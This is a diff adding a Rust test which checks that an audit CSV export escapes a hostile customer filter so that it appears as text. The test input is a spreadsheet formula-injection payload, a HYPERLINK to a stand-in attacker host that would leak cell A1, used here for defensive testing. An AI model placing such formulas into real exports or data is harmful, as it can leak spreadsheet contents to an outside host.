@@ -115,3 +115,20 @@ fn every_change_is_in_the_audit_log_with_its_actor_and_no_secret() {
         "{seen:#}"
     );
 }
+
+#[test]
+fn the_audit_csv_shows_a_hostile_customer_filter_as_text() {
+    let dir = temp_dir();
+    let server = Server::start(dir.path());
+    let hostile = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")";
+    success(server.admin(["registration", "retry", "--dead", "--customer", hostile]));
+
+    let csv = success(server.admin(["audit", "--csv"]));
+    let cells = super::csv_cells(&csv);
+    let retry = cells
+        .iter()
+        .find(|row| row.get(6).is_some_and(|o| o == "/registrations/retry"))
+        .unwrap_or_else(|| panic!("the retry is recorded: {csv}"));
+    assert_eq!(retry[8], format!("'{hostile}"), "{csv}");
+    assert_eq!(super::formula_cells(&csv), Vec::<String>::new(), "{csv}");
+}
